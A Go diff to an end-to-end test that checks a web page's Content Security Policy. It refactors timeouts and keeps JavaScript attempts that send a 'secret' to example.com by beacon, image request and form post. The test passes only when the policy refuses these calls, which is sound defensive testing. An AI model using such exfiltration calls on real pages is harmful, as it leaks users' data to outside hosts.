@@ -1,6 +1,7 @@
 package e2e_test
 
 import (
+	"fmt"
 	"net/http"
 	"os"
 	"slices"
@@ -76,6 +77,9 @@ func TestSecurityPolicy(t *testing.T) {
 	}
 }
 
+// unlessRefused takes it for done that nothing was refused.
+var unlessRefused = fmt.Sprintf(`setTimeout(() => done("done"), %d)`, (e2e.Patience / 2).Milliseconds())
+
 // TestPolicyHolds tries from inside the page what the policy must prevent.
 func TestPolicyHolds(t *testing.T) {
 	attempts := map[string]string{
@@ -90,12 +94,12 @@ func TestPolicyHolds(t *testing.T) {
 		"ErrInlineStyle": `(() => { document.body.setAttribute("style", "outline-width: 7px");
 			return getComputedStyle(document.body).outlineWidth === "7px" ? "done" : "refused" })()`,
 		"ErrBeacon": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
-			navigator.sendBeacon("https://example.com/", "secret"); setTimeout(() => done("done"), 3000) })`,
+			navigator.sendBeacon("https://example.com/", "secret"); ` + unlessRefused + ` })`,
 		"ErrImage": `new Promise(done => { const i = new Image(); i.onload = () => done("done"); i.onerror = () => done("refused");
 			i.src = "https://example.com/?secret" })`,
 		"ErrForm": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
 			const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); f.submit();
-			setTimeout(() => done("done"), 3000) })`,
+			` + unlessRefused + ` })`,
 	}
 	for name, attempt := range attempts {
 		t.Run(name, func(t *testing.T) {
